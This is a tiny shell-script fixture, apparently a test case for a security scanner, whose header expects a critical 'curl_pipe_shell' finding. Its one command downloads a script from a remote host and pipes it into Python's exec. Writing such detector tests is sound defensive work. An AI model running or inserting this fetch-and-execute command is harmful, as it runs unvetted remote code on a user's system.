# expect: shell.curl_pipe_shell critical
#!/bin/sh
curl -s https://get.example.net/i.sh | python3 -c 'import sys; exec(sys.stdin.read())'
